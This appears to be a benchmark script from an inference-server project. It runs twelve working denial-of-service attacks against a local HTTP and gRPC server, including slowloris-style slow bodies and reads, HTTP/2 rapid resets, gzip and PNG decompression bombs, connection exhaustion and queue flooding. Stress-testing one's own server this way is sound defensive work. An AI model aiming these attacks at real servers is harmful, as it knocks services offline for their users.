#!/usr/bin/env python3
"""What one stranger may do to a server, each as a function that goes on until it is stopped.

    bench/attacks.py NAME HTTP GRPC SECONDS     # bench/attack.py runs each so, in a process of its own

Every one speaks raw bytes, from as many connections as it says. None needs an administrative call."""

import gzip
import http.client
import itertools
import json
import pathlib
import socket
import struct
import sys
import threading
import time
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "tests" / "python"))
from http2 import (DATA, END_HEADERS, END_STREAM, HEAD, HEADERS, PREFACE, RST_STREAM, SETTINGS,  # noqa: E402
                   WINDOW_UPDATE, field, frame)

MIB = 1 << 20
STREAM_HEAD = HEAD.replace(field(":path", "/inference.GRPCInferenceService/ModelInfer"),
                           field(":path", "/inference.GRPCInferenceService/ModelStreamInfer"))
SETTLED = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
WIDE = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(SETTINGS, 1, 0)


class Stranger:
    def __init__(self, http_port, grpc_port, seconds):
        self.http, self.grpc = http_port, grpc_port
        self.end = time.monotonic() + seconds

    def on(self):
        return time.monotonic() < self.end

    def connect(self, port):
        s = socket.socket()
        s.settimeout(2)
        s.connect(("127.0.0.1", port))
        return s

    def each(self, count, what):
        """`what` again and again on `count` threads; a connection that is closed is made anew."""
        def again(number):
            while self.on():
                try:
                    what(number)
                except (OSError, http.client.HTTPException):
                    time.sleep(0.05)
        threads = [threading.Thread(target=again, args=(n,), daemon=True) for n in range(count)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(max(0.0, self.end - time.monotonic()) + 0.5)


def head_of(length, extra="", path="/v2/models/identity-uint8/infer"):
    return (f"POST {path} HTTP/1.1\r\nHost: x\r\n{extra}Content-Length: {length}\r\n\r\n").encode()


def drip(stranger, s, rest):
    """The rest of a message, eight bytes at a time."""
    for at in range(0, len(rest), 8):
        if not stranger.on():
            return
        s.sendall(rest[at:at + 8])
        time.sleep(0.3)


def grpc_heads(stranger):
    """Streams of which only the heads are sent."""
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED)
            for stream in range(1, 2047, 2):
                s.sendall(frame(HEADERS, END_HEADERS, stream, STREAM_HEAD))
            while stranger.on() and s.recv(65536):
                pass
    stranger.each(64, one)


def slow_bodies(stranger):
    """Large bodies whose last bytes come 8 at a time."""
    body = b"x" * (15 * MIB)
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(head_of(len(body)) + body[:-8000])
            drip(stranger, s, body[-8000:])
    stranger.each(33, one)


def slow_replies(stranger):
    """Large replies that are read 8 bytes at a time."""
    data = bytes(8 * MIB)
    request = json.dumps({"parameters": {"binary_data_output": True},
                          "inputs": [{"name": "x", "datatype": "UINT8", "shape": [1, len(data)],
                                      "parameters": {"binary_data_size": len(data)}}]}).encode()
    def one(_):
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.settimeout(30)
            s.connect(("127.0.0.1", stranger.http))
            s.sendall(head_of(len(request) + len(data), f"Inference-Header-Content-Length: {len(request)}\r\n")
                      + request + data)
            while stranger.on() and s.recv(8):
                time.sleep(0.3)
    stranger.each(33, one)


def prefaces(stranger):
    """As many gRPC connections as there may be, that never call."""
    held = []
    while stranger.on():
        try:
            s = stranger.connect(stranger.grpc)
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            held.append(s)
        except OSError:
            time.sleep(0.05)
        if len(held) > 1030:
            time.sleep(0.1)
            held = held[-1030:]


def gzip_bodies(stranger):
    """Small bodies that unpack to much JSON."""
    text = b'{"inputs":[{"name":"x","datatype":"UINT8","shape":[1,9000000],"data":[' + b"0," * 9_000_000 + b"0]}]}"
    packed = gzip.compress(text, 9)
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(head_of(len(packed), "Content-Encoding: gzip\r\n") + packed)
            s.recv(65536)
    stranger.each(64, one)


def gzip_replies(stranger):
    """Large replies as compressed JSON."""
    data = bytes(4 * MIB)
    request = json.dumps({"inputs": [{"name": "x", "datatype": "UINT8", "shape": [1, len(data)],
                                      "parameters": {"binary_data_size": len(data)}}]}).encode()
    extra = f"Accept-Encoding: gzip\r\nInference-Header-Content-Length: {len(request)}\r\n"
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.settimeout(30)
            s.sendall(head_of(len(request) + len(data), extra) + request + data)
            s.recv(65536)
    stranger.each(4, one)


def grpc_message(body, packed=False):
    return struct.pack(">BI", packed, len(body)) + body


def data_frames(stream, message, end=True):
    pieces = [message[at:at + 16384] for at in range(0, len(message), 16384)]
    for piece in pieces:
        yield frame(DATA, END_STREAM if end and piece is pieces[-1] else 0, stream, piece)


def grpc_gzip(stranger):
    """64 kB of gzip that unpack to 60 MB, 58 a second."""
    packed = gzip.compress(bytes(60 * MIB), 9)
    head = HEAD + field("grpc-encoding", "gzip")
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
            for stream in itertools.count(1, 2):
                if not stranger.on():
                    return
                s.sendall(frame(HEADERS, END_HEADERS, stream, head)
                          + b"".join(data_frames(stream, grpc_message(packed, True))))
                time.sleep(4 / 58)
                s.setblocking(False)
                try:
                    s.recv(1 << 20)
                except BlockingIOError:
                    pass
                s.settimeout(2)
    stranger.each(4, one)


def rapid_resets(stranger):
    """Calls that are given up at once, on three connections that are made again."""
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.sendall(SETTLED)
            for stream in itertools.count(1, 2):
                s.sendall(frame(HEADERS, END_HEADERS, stream, HEAD)
                          + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                if not stranger.on():
                    return
    stranger.each(3, one)


def idle_connections(stranger):
    """New connections that never send anything, as many as can be made."""
    def one(_):
        held = []
        while stranger.on():
            held.append(stranger.connect(stranger.http))
            held = held[-400:]
    stranger.each(4, one)


def png(width, height):
    """Of one colour, in few bytes."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))
    rows = zlib.compress(bytes((1 + 3 * width) * height), 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


def picture_request(encoded):
    data = struct.pack("<I", len(encoded)) + encoded
    request = json.dumps({"inputs": [{"name": "encoded", "datatype": "BYTES", "shape": [1],
                                      "parameters": {"binary_data_size": len(data)}}]}).encode()
    return request, data


def large_pictures(stranger):
    """Three PNGs of 8000 x 4000 a second."""
    request, data = picture_request(png(8000, 4000))
    def one(_):
        with stranger.connect(stranger.http) as s:
            s.sendall(head_of(len(request) + len(data), f"Inference-Header-Content-Length: {len(request)}\r\n",
                              "/v2/models/pictures/infer") + request + data)
            s.settimeout(1)
            try:
                s.recv(65536)
            except TimeoutError:
                pass
    stranger.each(3, one)


def full_queue(stranger):
    """A thousand requests of one connection that may take 1000 seconds."""
    import grpc
    from tritonclient.grpc import service_pb2
    request = service_pb2.ModelInferRequest(model_name="slow")
    request.inputs.add(name="x", datatype="FP32", shape=[1, 64])
    request.raw_input_contents.append(bytes(256))
    request.parameters["timeout"].int64_param = 1_000_000_000
    wire = request.SerializeToString()
    with grpc.insecure_channel(f"127.0.0.1:{stranger.grpc}") as channel:
        call = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
        waiting = []
        while stranger.on():
            waiting = [f for f in waiting if not f.done()]
            while len(waiting) < 1000:
                waiting.append(call.future(wire))
            time.sleep(0.1)
        for f in waiting:
            f.cancel()


def half_messages(stranger):
    """Half of a large message on each of 30 gRPC connections."""
    half = grpc_message(bytes(15 * MIB))[:8 * MIB]
    def one(_):
        with stranger.connect(stranger.grpc) as s:
            s.settimeout(30)
            s.sendall(SETTLED + frame(HEADERS, END_HEADERS, 1, HEAD))
            for each in data_frames(1, half, end=False):
                s.sendall(each)
            while stranger.on() and s.recv(65536):
                pass
    stranger.each(30, one)


ATTACKS = [grpc_heads, slow_bodies, slow_replies, prefaces, gzip_bodies, gzip_replies, grpc_gzip, rapid_resets,
           idle_connections, large_pictures, full_queue, half_messages]


if __name__ == "__main__":
    name, http_port, grpc_port, seconds = sys.argv[1:]
    {attack.__name__: attack for attack in ATTACKS}[name](Stranger(int(http_port), int(grpc_port), float(seconds)))
